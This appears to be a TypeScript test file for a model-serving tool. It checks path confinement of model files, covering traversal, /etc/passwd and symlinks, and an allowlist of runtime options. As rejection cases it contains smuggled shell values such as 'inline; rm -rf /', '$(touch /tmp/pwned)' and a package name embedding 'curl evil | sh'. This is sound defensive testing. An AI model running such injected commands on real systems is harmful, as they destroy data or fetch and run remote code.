// Model directories (src/model_dirs.ts): a container spec's files must lie inside a configured
// directory after symlinks are resolved; and the runtime options allowlist (src/runtime_options.ts).

import assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { after, before, describe, it } from 'node:test';
import { resolveConfig } from '../../src/config.js';
import { parseOptionText } from '../../src/config_sources.js';
import { ClipperError } from '../../src/errors.js';
import { confineModelFiles, confineModelPath, defaultModelDirs, isInsideDir, splitDirList, uploadsDirOf } from '../../src/model_dirs.js';
import { kRepoRoot } from '../../src/paths.js';
import { checkRuntimeOption, runtimeOptionArgs } from '../../src/runtime_options.js';
import type Docker from 'dockerode';
import { buildModelImage } from '../../src/containers/docker/images.js';
import { commandOf, renderDockerfile } from '../../src/containers/docker/model_context.js';
import { runnerCommand } from '../../src/containers/local_process.js';
import { nodeModelRecord } from '../../src/admin/deploy_local.js';

async function refused(promise: Promise<unknown>, pattern: RegExp): Promise<string> {
  let message = '';
  await assert.rejects(promise, (err: unknown) => {
    assert.ok(err instanceof ClipperError, String(err));
    assert.equal(err.code, 'CLP_ERR_INVALID_ARG');
    assert.equal(err.status, 400);
    message = err.message;
    return true;
  });
  assert.match(message, pattern);
  return message;
}

describe('model directories', () => {
  let root = '';
  let models = '';
  before(() => {
    root = mkdtempSync(path.join(os.tmpdir(), 'clipper-model-dirs-'));
    models = path.join(root, 'models');
    mkdirSync(path.join(models, 'sum'), { recursive: true });
    mkdirSync(path.join(root, 'models-evil'));
    writeFileSync(path.join(models, 'sum', 'model.mjs'), 'export const predict = (x) => x;\n');
    writeFileSync(path.join(root, 'models-evil', 'model.mjs'), 'export const predict = () => [];\n');
    writeFileSync(path.join(root, 'secret.txt'), 'no\n');
    symlinkSync(path.join(root, 'secret.txt'), path.join(models, 'sum', 'link-out.mjs'));
    symlinkSync(path.join(models, 'sum', 'model.mjs'), path.join(root, 'link-in.mjs'));
  });
  after(() => rmSync(root, { recursive: true, force: true }));

  it('accepts a file inside a directory, by absolute path, and returns its real path', async () => {
    const file = path.join(models, 'sum', 'model.mjs');
    assert.equal(await confineModelPath('entry', file, [models], 'file'), file);
  });

  it('refuses a sibling whose name shares the prefix (/models-evil is not inside /models)', async () => {
    const message = await refused(
      confineModelPath('entry', path.join(root, 'models-evil', 'model.mjs'), [models], 'file'),
      /is not inside a model directory/,
    );
    assert.ok(message.includes(models), 'names the allowed directories');
    assert.match(message, /modelDirs option \(--model-dirs, CLIPPER_MODEL_DIRS\)/, 'names the option');
  });

  it("refuses '..' tricks, absolute paths outside, symlinks leading out, and missing files", async () => {
    await refused(confineModelPath('entry', path.join(models, 'sum', '..', '..', 'secret.txt'), [models], 'file'), /not inside/);
    await refused(confineModelPath('entry', '/etc/passwd', [models], 'file'), /not inside/);
    await refused(confineModelPath('entry', path.join(models, 'sum', 'link-out.mjs'), [models], 'file'), /not inside/);
    await refused(confineModelPath('entry', path.join(models, 'sum', 'missing.mjs'), [models], 'file'), /does not exist/);
    await refused(confineModelPath('entry', path.join(models, 'sum'), [models], 'file'), /is not a file/);
  });

  it('follows a symlink that leads in, and a model directory that is itself a symlink', async () => {
    assert.equal(await confineModelPath('entry', path.join(root, 'link-in.mjs'), [models], 'file'), path.join(models, 'sum', 'model.mjs'));
    const linkedDir = path.join(root, 'linked-models');
    symlinkSync(models, linkedDir);
    assert.equal(
      await confineModelPath('entry', path.join(models, 'sum', 'model.mjs'), [linkedDir], 'file'),
      path.join(models, 'sum', 'model.mjs'),
    );
  });

  it('resolves a relative entry from the package root, as the container managers do', async () => {
    const examples = path.join(kRepoRoot, 'containers', 'node', 'examples');
    await confineModelPath('entry', 'containers/node/examples/sum_model.mjs', [examples], 'file');
    await refused(confineModelPath('entry', 'containers/node/examples/../../../package.json', [examples], 'file'), /not inside/);
  });

  it('checks a Docker folder, and the entry inside that folder', async () => {
    await confineModelFiles({ folder: path.join(models, 'sum'), entry: 'model.mjs' }, [models]);
    await refused(confineModelFiles({ folder: path.join(root, 'models-evil'), entry: 'model.mjs' }, [models]), /container\.folder/);
    await refused(confineModelFiles({ folder: path.join(models, 'sum'), entry: '../../secret.txt' }, [models]), /container\.entry/);
    await refused(confineModelFiles({ folder: path.join(models, 'sum'), entry: 'link-out.mjs' }, [models]), /container\.entry/);
    // A spec that runs a given image names no file here.
    await confineModelFiles({ image: 'sum-model:1' }, [models]);
  });

  it('isInsideDir is separator-aware', () => {
    assert.equal(isInsideDir('/models/a', '/models'), true);
    assert.equal(isInsideDir('/models', '/models'), true);
    assert.equal(isInsideDir('/models-evil/a', '/models'), false);
    assert.equal(isInsideDir('/modelsa', '/models'), false);
    assert.equal(isInsideDir('/models/a', '/'), true);
  });
});

describe('config.modelDirs', () => {
  it('defaults to the upload dir ($CLIPPER_MODELS_DIR, read when resolved) and the examples', () => {
    const saved = process.env.CLIPPER_MODELS_DIR;
    try {
      process.env.CLIPPER_MODELS_DIR = '/srv/clipper-models';
      const dirs = resolveConfig().modelDirs;
      assert.deepEqual(dirs, defaultModelDirs());
      assert.equal(dirs[0], '/srv/clipper-models');
      assert.ok(dirs.includes(path.join(kRepoRoot, 'containers', 'node', 'examples')));
      assert.ok(dirs.includes(path.join(kRepoRoot, 'containers', 'python', 'examples')));
    } finally {
      if (saved === undefined) delete process.env.CLIPPER_MODELS_DIR;
      else process.env.CLIPPER_MODELS_DIR = saved;
    }
  });

  it('takes a list from a flag or variable, split on commas and the path delimiter', () => {
    assert.deepEqual(splitDirList('/a,/b:/c, /d '), ['/a', '/b', '/c', '/d']);
    assert.deepEqual(parseOptionText('modelDirs', '/srv/m,/opt/m', 'flag --model-dirs'), ['/srv/m', '/opt/m']);
    assert.deepEqual(resolveConfig({ modelDirs: ['/srv/m'] }).modelDirs, ['/srv/m']);
  });

  it('refuses relative, empty or non-list values, naming the option', () => {
    for (const bad of [['models'], [], '/srv/m', [1]] as unknown[]) {
      assert.throws(
        () => resolveConfig({ modelDirs: bad as string[] }),
        /config\.modelDirs must be a non-empty list of absolute directories/,
      );
    }
  });

  it('validates replicaAuth and replicaSecretFile', () => {
    assert.equal(resolveConfig().replicaAuth, 'required');
    assert.equal(resolveConfig({ replicaAuth: 'off' }).replicaAuth, 'off');
    assert.throws(() => resolveConfig({ replicaAuth: 'maybe' as 'off' }), /config\.replicaAuth must be 'required' or 'off'/);
    assert.throws(() => resolveConfig({ replicaSecretFile: 'secret.hex' }), /config\.replicaSecretFile/);
  });
});

describe('runtime options', () => {
  it('accepts the allowlisted options with their values, as argv pairs', () => {
    assert.deepEqual(runtimeOptionArgs({ isolate: 'inline' }), ['--isolate', 'inline']);
    assert.deepEqual(runtimeOptionArgs(undefined), []);
  });

  it('refuses unknown names, flags the manager sets, and values that smuggle a flag or a shell word', () => {
    const cases: Array<[string, unknown, RegExp]> = [
      ['model', '/etc/passwd', /container\.options\.model is not a runtime option/],
      ['port', 1, /container\.options\.port is not a runtime option/],
      ['workers', 2, /container\.options\.workers is not a runtime option/],
      ['isolate', 'inline --model=/tmp/evil.mjs', /container\.options\.isolate must be 'thread' or 'inline'/],
      ['isolate', 'inline; rm -rf /', /container\.options\.isolate must be/],
      ['isolate', '$(touch /tmp/pwned)', /container\.options\.isolate must be/],
      ['isolate', { a: 1 }, /container\.options\.isolate must be/],
      ['__proto__', 'x', /is not a runtime option/],
    ];
    for (const [name, value, pattern] of cases) {
      assert.throws(
        () => checkRuntimeOption(name, value),
        (err: unknown) => err instanceof ClipperError && err.status === 400 && pattern.test(err.message),
      );
    }
  });
});

describe('the container managers check again', () => {
  const examples = path.join(kRepoRoot, 'containers', 'node', 'examples');
  // Validation and the file check come before any call to the engine: this engine is never used.
  const noEngine = {} as Docker;

  it('a Docker build with modelDirs refuses an entry or folder outside them, before building', async () => {
    const spec = { model: 'm', version: '1', runtime: 'node' as const, entry: '/etc/passwd', modelDirs: [examples] };
    await refused(buildModelImage(noEngine, spec), /container\.entry "\/etc\/passwd" is not inside a model directory/);
    await refused(buildModelImage(noEngine, { ...spec, entry: 'passwd', folder: '/etc' }), /container\.folder "\/etc"/);
  });

  it('the Dockerfile and the runner command take only allowlisted options and Debian package names', () => {
    const spec = { model: 'm', version: '1', runtime: 'python' as const, entry: 'm.py' };
    assert.throws(
      () => renderDockerfile({ ...spec, pkgsToInstall: ['six; curl evil | sh'] }, 'base', 'm.py', {}),
      /not a valid Debian package name/,
    );
    assert.match(
      renderDockerfile({ ...spec, pkgsToInstall: ['python3-six'] }, 'base', 'm.py', {}),
      /install -y --no-install-recommends python3-six /,
    );
    assert.throws(() => commandOf({ ...spec, options: { model: '/x' } }, 'm.py'), /container\.options\.model is not a runtime option/);
    assert.deepEqual(commandOf({ ...spec, options: { isolate: 'inline' } }, 'm.py').slice(-2), ['--isolate', 'inline']);
  });

  it('a local replica is spawned with an argv array; a stored option off the allowlist is refused', () => {
    const record = nodeModelRecord('m', '1', 'doubles', path.join(examples, 'sum_model.mjs'));
    const { command, args } = runnerCommand(record);
    assert.equal(command, process.execPath);
    assert.deepEqual(args.slice(-2), ['--isolate', 'inline']);
    const evil = { ...record, container: { ...record.container, options: { isolate: 'inline; touch /tmp/pwned' } } };
    assert.throws(() => runnerCommand(evil), /container\.options\.isolate must be 'thread' or 'inline'/);
  });
});

describe('uploadsDirOf: where upload_model stores files', () => {
  it('the upload dir when it lies in a model directory, else the first model directory', () => {
    const saved = process.env.CLIPPER_MODELS_DIR;
    process.env.CLIPPER_MODELS_DIR = '/srv/uploads/models';
    try {
      assert.equal(uploadsDirOf(undefined), '/srv/uploads/models');
      assert.equal(uploadsDirOf(['/opt/x', '/srv/uploads/models']), '/srv/uploads/models');
      assert.equal(uploadsDirOf(['/srv/uploads']), '/srv/uploads/models', 'inside a model directory');
      assert.equal(uploadsDirOf(['/srv/models', '/opt/x']), '/srv/models', 'not in any: the first model directory');
      assert.equal(uploadsDirOf(['/srv/uploads/models-evil']), '/srv/uploads/models-evil');
    } finally {
      if (saved === undefined) delete process.env.CLIPPER_MODELS_DIR;
      else process.env.CLIPPER_MODELS_DIR = saved;
    }
  });
});
